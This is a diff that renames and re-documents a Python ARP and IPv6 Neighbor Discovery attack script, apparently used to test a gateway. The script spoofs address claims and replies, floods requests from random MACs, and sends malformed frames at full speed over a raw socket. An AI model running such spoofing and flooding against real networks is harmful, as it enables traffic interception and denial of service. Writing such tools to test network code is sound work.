@@ -1,18 +1,18 @@
 #!/usr/bin/python3
-"""An ill-willed station on an Ethernet: hostile.py INTERFACE WHAT COUNT ADDRESS [GATEWAY_MAC]
+"""Attack ARP and ND on an Ethernet: hostile_neighbor.py INTERFACE ATTACK COUNT ADDRESS [GATEWAY_MAC]
 
-WHAT: claim      ADDRESS is mine, says ever another MAC (gratuitous ARP, unsolicited NA)
-      answer     the same as if it were asked for (ARP reply, solicited NA), to GATEWAY_MAC
-      ask        who has ADDRESS? from ever another sender
-      malformed  ARP and ND that break rules, each another one
-Written without the gateway's code. Never faster than the kernel takes frames."""
+ATTACK: claim      claim ADDRESS, each time for another MAC (gratuitous ARP, unsolicited NA)
+        answer     the same as an answer (ARP reply, solicited NA) to GATEWAY_MAC
+        ask        ask for ADDRESS, each time from another sender
+        malformed  ARP and ND messages that each break another rule
+Shares no code with the gateway. Sends as fast as the kernel accepts frames."""
 import ipaddress
 import random
 import socket
 import struct
 import sys
 
-interface, what, count, address = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
+interface, attack, count, address = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
 gateway = bytes.fromhex(sys.argv[5].replace(":", "")) if len(sys.argv) > 5 else b"\xff" * 6
 ip = ipaddress.ip_address(address)
 wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
@@ -75,6 +75,6 @@ def malformed(mac):
     return bytes(frame)
 
 
-make = {"claim": claim, "answer": answer, "ask": ask, "malformed": malformed}[what]
+make = {"claim": claim, "answer": answer, "ask": ask, "malformed": malformed}[attack]
 for _ in range(count):
     wire.send(make(some_mac()))
